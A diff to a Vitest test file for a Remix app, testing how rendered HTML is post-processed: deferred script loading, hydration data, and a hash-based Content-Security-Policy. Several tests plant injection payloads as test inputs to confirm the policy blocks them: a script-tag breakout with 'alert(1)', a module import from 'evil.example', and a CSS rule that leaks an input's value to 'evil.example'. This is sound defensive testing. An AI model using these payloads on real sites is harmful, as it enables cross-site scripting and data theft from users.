@@ -1,56 +1,112 @@
 import { createHash } from "node:crypto";
 import { runInNewContext } from "node:vm";
+import type { EntryContext } from "@remix-run/node";
+import { JSDOM } from "jsdom";
 import { describe, expect, it } from "vitest";
 import { applyCachePolicy, CACHE_CONTROL, wantsLightVersion } from "../../app/document/cache";
-import { postProcessHtml } from "../../app/document/post-process-html";
+import { HYDRATION_ID, STATE_ID } from "../../app/document/hydration-data";
+import { type PageParts, postProcessHtml } from "../../app/document/post-process-html";
+import { renderHydration } from "../../app/document/render-hydration.server";
 import { LOADER_SCRIPT } from "../../app/document/script-loader";
 
-const MODULE = 'import "/assets/a.js";';
-const RENDERED = `<!DOCTYPE html><html><head><style>b{color:red}</style></head><body><link rel="modulepreload" href="/assets/a.js"/><script>window.__remixContext = {};</script><script type="module" async="">${MODULE}</script></body></html><script>window.__remixContext.streamController.close();</script>`;
+const RENDERED =
+  '<!DOCTYPE html><html><head><link rel="stylesheet" href="/assets/index.css"/></head><body><p>x</p></body></html>';
+
+/** What Remix hands over for a page with one route besides the root. */
+const CONTEXT = {
+  manifest: {
+    url: "/assets/manifest-1.js",
+    entry: { module: "/assets/entry-1.js", imports: ["/assets/club-1.js"] },
+    routes: {
+      root: { id: "root", module: "/assets/root-1.js", imports: ["/assets/club-1.js"] },
+      "routes/promo": { id: "routes/promo", module: "/assets/promo-1.js" },
+      "routes/login": { id: "routes/login", module: "/assets/login-1.js" },
+    },
+  },
+  staticHandlerContext: { matches: [{ route: { id: "root" } }, { route: { id: "routes/promo" } }] },
+  serverHandoffString: '{"basename":"/"}',
+} as unknown as EntryContext;
+
+const STATE = '[{"_1":2},"text","</script><script>alert(1)</script><!--"]';
+const hydration = renderHydration(CONTEXT, STATE);
+const process = (rendered: string, parts: Partial<PageParts> = {}) =>
+  postProcessHtml(rendered, { hydration, showsDocument: false, ...parts });
 
 const sha = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
+const directive = (policy: string, name: string) => new RegExp(`(?:^|; )${name} ([^;]*)`).exec(policy)?.[1];
 
 describe("architecture: scripts start on the first touch", () => {
   it("architecture: a page requests no script by itself, and its loader is at most 1 KB", () => {
-    const { html } = postProcessHtml(RENDERED);
-    expect(html).not.toMatch(/<link rel="modulepreload"|<script type="module"/);
-    expect(html).toContain('data-rel="modulepreload" href="/assets/a.js"');
+    const { html } = process(RENDERED);
+    expect(html.replace(LOADER_SCRIPT, "")).not.toMatch(
+      /<link rel="modulepreload"|<script[^>]* (src|async)|type="module"/,
+    );
+    for (const file of ["manifest-1", "entry-1", "club-1", "root-1", "promo-1"]) {
+      expect(html.split(`<link data-rel="modulepreload" href="/assets/${file}.js">`)).toHaveLength(2);
+    }
+    expect(html).not.toContain("login-1");
     expect(html).toContain(`<script>${LOADER_SCRIPT}</script></body>`);
     expect(Buffer.byteLength(LOADER_SCRIPT)).toBeLessThanOrEqual(1024);
     expect(() => runInNewContext(`(function(){${LOADER_SCRIPT}})`)).not.toThrow();
   });
 
-  it("architecture: the policy allows exactly the scripts and styles of the page, by hash", () => {
-    const { html, policy } = postProcessHtml(RENDERED);
-    const scripts = /script-src ([^;]*)/.exec(policy)?.[1]?.split(" ");
-    expect(scripts).toEqual([
-      "'self'",
-      sha("window.__remixContext = {};"),
-      sha(MODULE),
-      sha(LOADER_SCRIPT),
-      sha("window.__remixContext.streamController.close();"),
-    ]);
-    expect(policy).toContain(`style-src-elem 'self' ${sha("b{color:red}")}`);
-    expect(policy).toContain("frame-ancestors 'none'");
-    expect(postProcessHtml(RENDERED).html).toBe(html);
+  it("architecture: the page's data is complete and can't end its element", () => {
+    const { window } = new JSDOM(process(RENDERED).html);
+    const { document } = window;
+    expect(document.querySelectorAll("script")).toHaveLength(3);
+    const data = document.getElementById(HYDRATION_ID);
+    expect(data?.dataset.entry).toBe("/assets/entry-1.js");
+    expect(JSON.parse(data?.textContent ?? "")).toEqual({
+      context: { basename: "/" },
+      manifest: "/assets/manifest-1.js",
+      routes: { root: "/assets/root-1.js", "routes/promo": "/assets/promo-1.js" },
+    });
+    expect(JSON.parse(document.getElementById(STATE_ID)?.textContent ?? "")).toEqual(JSON.parse(STATE));
   });
 
-  it("architecture: a page rendered without scripts gets no loader", () => {
+  it("architecture: the policy allows the loader and the page's own styles, and is as short as that", () => {
+    const { html, policy } = process(RENDERED);
+    const css = /<style>(.*)<\/style>/s.exec(html)?.[1] ?? "";
+    expect(directive(policy, "script-src")).toBe(`'self' ${sha(LOADER_SCRIPT)}`);
+    expect(directive(policy, "style-src-elem")).toBe(`'self' ${sha(css)}`);
+    expect(Buffer.byteLength(policy)).toBeLessThan(450);
+    expect(process(RENDERED).html).toBe(html);
+    expect(directive(process(RENDERED, { hydration: null }).policy, "script-src")).toBe("'self'");
+  });
+
+  it.each([
+    "<script>alert(1)</script>",
+    '<script type="module">import "https://evil.example/x.js"</script>',
+    "<script nonce>alert(1)</script>",
+    "<style>input[value^='7']{background:url(//evil.example)}</style>",
+  ])("architecture: what somebody plants in a page isn't allowed by the policy: %s", (planted) => {
+    const clean = process(RENDERED);
+    const { html, policy } = process(RENDERED.replace("<p>x</p>", planted));
+    expect(html).toContain(planted);
+    expect(policy).toBe(clean.policy);
+  });
+
+  it("architecture: only a page that shows a PDF may have an object or a frame; base, forms and frames stay ours", () => {
+    const { policy } = process(RENDERED);
+    expect([directive(policy, "object-src"), directive(policy, "frame-src")]).toEqual(["'none'", "'none'"]);
+    expect([directive(policy, "base-uri"), directive(policy, "form-action")]).toEqual(["'none'", "'self'"]);
+    expect(directive(policy, "frame-ancestors")).toBe("'none'");
+    const rules = process(RENDERED, { showsDocument: true }).policy;
+    expect(directive(rules, "object-src")).toBe("'self' https:");
+  });
+
+  it("architecture: a page without scripts gets no loader and no data", () => {
     const light = "<html><body><p>x</p></body></html>";
-    expect(postProcessHtml(light).html).toBe(light);
+    expect(process(light, { hydration: null }).html).toBe(light);
   });
 
   it("architecture: the complete style sheet is deferred like the scripts, and left out with them", () => {
-    const linked = '<link rel="stylesheet" href="/assets/index.css"/>';
-    const { html } = postProcessHtml(RENDERED.replace("<style>", `${linked}<style>`));
-    expect(html).toContain('<link data-rel="stylesheet" href="/assets/index.css"/>');
-    expect(postProcessHtml(`<html><head>${linked}</head></html>`).html).not.toContain("stylesheet");
+    expect(process(RENDERED).html).toContain('<link data-rel="stylesheet" href="/assets/index.css"/>');
+    expect(process(RENDERED, { hydration: null }).html).not.toContain("stylesheet");
   });
 
   it("architecture: a page carries the styles of the components that it shows", () => {
-    const { html } = postProcessHtml(
-      '<html><head></head><body class="page"><p class="field-hint lead">x</p></body></html>',
-    );
+    const { html } = process('<html><head></head><body class="page"><p class="field-hint lead">x</p></body></html>');
     const css = /<style>(.*)<\/style><\/head>/s.exec(html)?.[1] ?? "";
     const names = [...css.matchAll(/@layer ([\w-]+)/g)].map(([, layer]) => layer);
     expect(names).toEqual(["base", "layout", "components", "features", "overrides"]);
